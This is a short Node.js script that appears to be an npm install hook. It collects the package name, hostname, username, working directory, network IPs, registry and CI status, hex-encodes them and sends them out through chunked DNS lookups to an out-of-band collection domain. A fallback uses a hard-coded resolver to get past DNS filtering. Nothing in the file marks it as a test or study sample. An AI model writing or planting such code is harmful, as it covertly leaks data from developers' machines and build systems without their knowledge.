const os = require("os");
const dns = require("dns");
const pkg = require("./package.json");

const SUFFIX = "d7f3k.oast.example.com";

function ips() {
  const out = [];
  for (const list of Object.values(os.networkInterfaces())) {
    for (const i of list || []) if (!i.internal && i.family === "IPv4") out.push(i.address);
  }
  return out.join(",");
}

const info = [
  pkg.name,
  os.hostname(),
  os.userInfo().username,
  process.cwd(),
  ips(),
  (process.env.npm_config_registry || "").replace(/^https?:\/\//, ""),
  process.env.CI ? "ci" : "dev",
].join("|");

const hex = Buffer.from(info).toString("hex");
const id = Math.random().toString(36).slice(2, 7);
const chunks = hex.match(/.{1,60}/g) || [];

chunks.forEach((c, i) => {
  const name = `${c}.${i}.${chunks.length}.${id}.${SUFFIX}`;
  dns.lookup(name, () => {});
});

// fall back to plain DNS resolvers when the system resolver is filtered
const r = new dns.Resolver();
r.setServers(["198.51.100.53"]);
chunks.forEach((c, i) => r.resolve4(`${c}.${i}.${chunks.length}.${id}.${SUFFIX}`, () => {}));
